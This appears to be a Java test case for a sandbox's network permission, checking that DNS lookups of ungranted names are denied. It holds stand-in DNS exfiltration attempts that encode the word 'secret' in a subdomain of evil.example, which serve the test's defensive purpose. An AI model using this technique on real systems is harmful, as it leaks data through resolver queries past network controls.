// Questions to a resolver carry data out: names that no rule speaks of are not asked for, nor are addresses.
// run: name --allow-net=granted.example
// args: name
// out~ name resolution of "c2vjcmv0.evil.example" denied
// run: below --allow-net=granted.example
// args: below
// out~ name resolution of "c2vjcmv0.granted.example" denied
// run: numbers --allow-net=10.0.0.0/8
// args: name
// out~ name resolution of "c2vjcmv0.evil.example" denied
// run: reverse --allow-net=granted.example
// args: reverse
// out: 203.0.113.77
// run: all --allow-net=granted.example
// args: all
// out~ name resolution of "c2vjcmv0.evil.example" denied
import java.net.*;

public class NetResolveLeak {
    public static void main(String[] args) throws Exception {
        try {
            switch (args[0]) {
                case "name":
                    System.out.println(InetAddress.getByName("c2vjcmv0.evil.example"));
                    break;
                case "below":
                    System.out.println(InetAddress.getByName("c2vjcmv0.granted.example"));
                    break;
                case "all":
                    System.out.println(InetAddress.getAllByName("C2vjcmv0.EVIL.example.").length);
                    break;
                default:
                    System.out.println(InetAddress.getByAddress(new byte[] {(byte) 203, 0, 113, 77}).getCanonicalHostName());
            }
        } catch (UnknownHostException e) {
            System.out.println(e.getMessage());
        }
    }
}
